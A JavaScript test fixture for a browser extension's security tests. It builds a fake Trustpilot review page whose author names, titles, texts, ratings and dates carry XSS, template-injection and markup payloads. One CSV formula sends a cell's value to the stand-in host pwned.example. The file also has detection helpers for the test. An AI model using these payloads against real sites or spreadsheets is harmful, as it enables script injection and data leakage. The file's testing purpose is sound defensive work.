// A hostile review page for the security end-to-end tests (hostile.mjs in Chromium,
// hostile-firefox.mjs in Firefox): a Trustpilot company page (data/sites/trustpilot.toml's
// hooks, as in tests/fixtures/pages/trustpilot_minimal.html) whose review texts, titles,
// author names, ratings, dates and document title carry markup, script and template
// payloads. Nothing of it may run or become markup in any extension context, and what the
// adapter reads as text must be shown as that text.
//
// Every payload that runs sets `__pwned` (and some also alert()), in whatever frame runs it.
// The page's markup never holds a live payload: each one is HTML-escaped in the source (so
// the adapter reads the literal string as the element's text) or put in by the page's own
// script with textContent/setAttribute (NUL, lone surrogates, bidi controls, huge values
// survive that way, where the HTML parser would replace them). One review (A9) holds real
// markup of the page's own, whose <img onerror> counts `__pageOwn`: that count must not
// change after load (the extension never clones or re-inserts page markup).

export const HOSTILE_URL = "https://www.trustpilot.com/review/calmly-hostile.example";

/** What a payload does when it runs: counts in `__pwned` of the frame that runs it. */
const RUN = "window.__pwned=(window.__pwned||0)+1";

export const PAYLOADS = {
  img: `<img src=x onerror="${RUN};alert('img')">`,
  script: `<script>${RUN};alert('script')</script>`,
  svg: `"><svg onload="${RUN}">`,
  jsUrl: `javascript:${RUN}//`,
  anchor: `<a href="javascript:${RUN}">open my order</a>`,
  mustache: `{{constructor.constructor('${RUN}')()}}`,
  templates: `\${${RUN}} #{${RUN}} <%= ${RUN} %> [[${RUN}]]`,
  textarea: `</textarea><img src=x onerror="${RUN}">`,
  iframe: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  style: `</style><style>*{background:url(https://pwned.example/style.css)}</style><link rel="stylesheet" href="https://pwned.example/link.css">`,
  title: `</title><script>${RUN}</script>`,
  math: `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  animate: `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`,
  meta: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}"><base href="https://pwned.example/">`,
  object: `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  image: `<img src="https://pwned.example/pixel.gif">`,
  literal: "<img src=x onerror=window.__pwned=1>",
  csv: `=HYPERLINK("https://pwned.example/?leak="&A1,"click")`,
};
const P = PAYLOADS;

const HUGE = 300_000; // characters in a huge attribute value

/**
 * The reviews. `how`: "html" (HTML-escaped in the source), "script" (made by the page's
 * script with textContent/setAttribute), "raw" (the page's own markup inside the text),
 * "late" (made by the page's script 1.5 s after load: the MutationObserver path).
 * `text`, `title` are what the adapter must read (before whitespace is squashed).
 */
export const REVIEWS = [
  {
    key: "A1",
    how: "html",
    author: P.img,
    title: P.script,
    text: `My order never arrived and nobody answers my emails. ${P.img} I want a refund now. ${P.script}`,
    rating: `1"><svg onload="${RUN}">`,
    date: `2026-11-20T10:00:00.000Z"><img src=x onerror="${RUN}">`,
    extra: '<textarea id="reply-ta" aria-label="Reply to this review" rows="4" cols="60"></textarea>',
  },
  {
    key: "A2",
    how: "html",
    author: P.svg,
    title: P.jsUrl,
    text: `Charged twice and support ignores me. ${P.svg} ${P.anchor} ${P.jsUrl} Give me my money back.`,
    rating: "2",
    date: "2026-11-21T08:30:00.000Z",
    extra: '<div id="reply-ce" contenteditable="true" aria-label="Reply to this review" style="min-height:3em;border:1px solid #999"></div>',
  },
  {
    key: "A3",
    how: "html",
    author: P.mustache,
    title: "{{7*7}} ${7*7} #{7*7}",
    text: `The blender broke after two days, terrible quality. ${P.mustache} ${P.templates}`,
    rating: "1",
    date: P.templates,
  },
  {
    key: "A4",
    how: "html",
    author: "</textarea></title></style></script>",
    title: P.title,
    text: `Rude staff and I waited an hour for nothing. ${P.textarea} ${P.iframe} ${P.title}`,
    rating: "1",
    date: "2026-11-22T12:00:00.000Z",
  },
  {
    key: "A5",
    how: "html",
    author: P.math,
    title: P.style,
    text: `The delivery was late and the box was damaged. ${P.style} ${P.meta} ${P.object} ${P.image}`,
    rating: "2",
    date: "2026-11-22T13:00:00.000Z",
  },
  {
    key: "A6",
    how: "script",
    // U+202E RIGHT-TO-LEFT OVERRIDE, a NUL, a lone surrogate, zero-width and line separators.
    author: "Ana \u202Egpj.exe\u202C \u0000",
    title: "Refund \u202Edesufer\u202C \u2067isolated\u2069",
    text: `I still have no refund\u0000 for the broken phone. \u202E${P.img}\u202C zero\u200Bwidth\u2028line\u2029para \uD800 lone surrogate \uFEFF bom 😡 ${P.literal}`,
    rating: "1",
    date: "2026-11-23T09:00:00.000Z",
  },
  {
    key: "A7",
    how: "script",
    author: "H".repeat(5000),
    title: `${P.svg} `.repeat(400),
    // About 90 KB: past the engine's 64 KB text limit.
    text: `Terrible service, I want my money back. ${P.img.repeat(1500)}`,
    rating: "1" + "0".repeat(HUGE), // a number too large to be a rating
    date: "2026-11-24T09:00:00.000Z" + `"><img src=x onerror="${RUN}">`.repeat(HUGE / 30),
  },
  {
    key: "A8",
    how: "html",
    author: "&lt;script&gt;alert(1)&lt;/script&gt;",
    title: P.literal,
    text: P.literal,
    rating: "3",
    date: "2026-11-25T09:00:00.000Z",
  },
  {
    key: "A9",
    how: "raw",
    author: "Raw Markup",
    title: "Real markup of the page",
    // The source (raw HTML of the page) and what its text reads as.
    // The <noscript> (read as markup text while scripts run), <style> and <script> are
    // the page's own too, and no text of the review.
    source: 'My refund is missing. <b>Bold claim</b> <img src="x" onerror="window.__pageOwn=(window.__pageOwn||0)+1"> <noscript><img src="avatar.png"></noscript><style>.a9{color:red}</style>Still waiting after three weeks.<script>window.__pageOwnScript=1</script>',
    text: "My refund is missing. Bold claim  Still waiting after three weeks.",
    rating: "1",
    date: "2026-11-25T10:00:00.000Z",
  },
  {
    key: "A10",
    how: "late",
    author: P.csv,
    title: P.animate,
    text: `Added later: the app deletes my photos and support never replies. ${P.animate} ${P.math} ${P.csv}`,
    rating: "1",
    date: "2026-11-26T09:00:00.000Z",
  },
];

export const DOCUMENT_TITLE = `${P.title}${P.img} Hostile Shop Reviews`;

const esc = (s) => String(s).replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
/** JSON safe inside an inline <script> (no "</script", no "<!--"). */
const scriptJson = (v) => JSON.stringify(v).replace(/</g, "\\u003c").replace(/\u2028/g, "\\u2028").replace(/\u2029/g, "\\u2029");

function article(r) {
  const text = r.how === "raw" ? r.source : esc(r.text);
  return `<article data-service-review-card-paper="true" class="styles_reviewCard__x1" data-key="${r.key}">
  <aside><span data-consumer-name-typography="true">${esc(r.author)}</span>
  <time datetime="${esc(r.date)}" data-service-review-date-time-ago="true">Nov 2026</time></aside>
  <div data-service-review-rating="${esc(r.rating)}"><span>Rated</span></div>
  <h2 data-service-review-title-typography="true">${esc(r.title)}</h2>
  <p data-service-review-text-typography="true">${text}</p>
  ${r.extra || ""}
</article>`;
}

/** The page's own script: builds the "script" and "late" reviews from JSON with
 *  textContent and setAttribute only. */
function builder(list, delay) {
  return `<script>
(() => {
  const reviews = ${scriptJson(list.map(({ key, author, title, text, rating, date }) => ({ key, author, title, text, rating, date })))};
  const add = () => {
    const main = document.querySelector("main");
    for (const r of reviews) {
      const a = document.createElement("article");
      a.setAttribute("data-service-review-card-paper", "true");
      a.dataset.key = r.key;
      const aside = document.createElement("aside");
      const name = document.createElement("span");
      name.setAttribute("data-consumer-name-typography", "true");
      name.textContent = r.author;
      const time = document.createElement("time");
      time.setAttribute("datetime", r.date);
      time.setAttribute("data-service-review-date-time-ago", "true");
      time.textContent = "Nov 2026";
      aside.append(name, time);
      const rating = document.createElement("div");
      rating.setAttribute("data-service-review-rating", r.rating);
      const h2 = document.createElement("h2");
      h2.setAttribute("data-service-review-title-typography", "true");
      h2.textContent = r.title;
      const p = document.createElement("p");
      p.setAttribute("data-service-review-text-typography", "true");
      p.textContent = r.text;
      a.append(aside, rating, h2, p);
      main.append(a);
    }
  };
  ${delay ? `setTimeout(add, ${delay});` : "add();"}
})();
</script>`;
}

/** The whole page (served with no CSP, so the page's own scripts run). */
export function hostilePage() {
  const byHow = (...how) => REVIEWS.filter((r) => how.includes(r.how));
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>${esc(DOCUMENT_TITLE)}</title>
<link rel="canonical" href="${HOSTILE_URL}"></head>
<body>
<main>
<h1>Hostile Shop</h1>
${byHow("html", "raw").map(article).join("\n")}
${builder(byHow("script"), 0)}
</main>
${builder(byHow("late"), 1500)}
</body>
</html>`;
}

/** Whitespace squashed as the content script does (content.js `squash`). */
export const squash = (s) => String(s || "").split(/\s+/).filter(Boolean).join(" ");

/** The text a review must show in the sidebar: squashed; a lone surrogate cannot cross
 *  into Rust strings and reads as U+FFFD. */
export const shownText = (s) => squash(s).toWellFormed();

/** Payloads that must be found, as text, in the extension's views. */
export const MUST_SHOW = [P.img, P.script, P.svg, P.anchor, P.mustache, P.textarea, P.iframe, P.style, P.title, P.math, P.animate, P.meta, P.object, P.literal];

/**
 * A census of a document, run inside it (page.evaluate / frame.evaluate): element counts
 * by tag, elements with event-handler or srcdoc attributes, URL attributes with script
 * schemes, links that leave http(s)/extension URLs, and the `__pwned` marker.
 */
export function census() {
  const all = [...document.querySelectorAll("*")];
  const tags = {};
  for (const e of all) tags[e.localName] = (tags[e.localName] || 0) + 1;
  const handlers = [];
  const scriptUrls = [];
  for (const e of all) {
    for (const a of e.attributes) {
      if (/^on/i.test(a.name) || ["srcdoc", "formaction", "xlink:href"].includes(a.name.toLowerCase())) handlers.push(`${e.localName}[${a.name}]`);
      if (["href", "src", "action", "data", "poster", "background", "content"].includes(a.name.toLowerCase()) && /^\s*(javascript|vbscript|data):/i.test(a.value)) {
        scriptUrls.push(`${e.localName}[${a.name}=${a.value.slice(0, 40)}]`);
      }
    }
  }
  const links = [...document.querySelectorAll("a[href], area[href]")].map((a) => a.href).filter((h) => !/^(https?|chrome-extension|moz-extension):/i.test(h));
  return { tags, handlers, scriptUrls, links, pwned: globalThis.__pwned ?? null, pageOwn: globalThis.__pageOwn ?? null, text: document.body ? document.body.textContent : "" };
}

/** Tags that must never appear in an extension page from data (counted against the page's own). */
export const DANGEROUS = ["img", "script", "svg", "iframe", "frame", "object", "embed", "style", "link", "base", "meta", "form", "math", "template", "video", "audio", "source", "picture", "canvas", "animate", "a", "area", "noscript", "portal", "applet"];

/**
 * Compares a census against the page's own (`base`, taken the same way on a harmless page or
 * before any data arrived; `tags` required, the lists optional): no dangerous tag more than
 * there, no tag outside `allowed`, no handler attribute, script URL or link out that it did
 * not have, no `__pwned`. Returns a list of problems.
 */
export function compareCensus(now, base, allowed) {
  const problems = [];
  for (const t of DANGEROUS) if ((now.tags[t] || 0) > (base.tags[t] || 0)) problems.push(`${now.tags[t]} <${t}> (the page's own: ${base.tags[t] || 0})`);
  if (allowed) for (const t of Object.keys(now.tags)) if (!allowed.includes(t) && !(t in base.tags)) problems.push(`unexpected <${t}>`);
  const more = (list, own = []) => list.filter((x, i) => list.slice(0, i + 1).filter((y) => y === x).length > own.filter((y) => y === x).length);
  const handlers = more(now.handlers, base.handlers);
  const scriptUrls = more(now.scriptUrls, base.scriptUrls);
  const links = more(now.links, base.links);
  if (handlers.length) problems.push(`handler attributes: ${handlers.slice(0, 5).join(", ")}`);
  if (scriptUrls.length) problems.push(`script URLs: ${scriptUrls.slice(0, 5).join(", ")}`);
  if (links.length) problems.push(`links out: ${links.slice(0, 5).join(", ")}`);
  if (now.pwned !== null) problems.push(`__pwned = ${now.pwned}`);
  return problems;
}
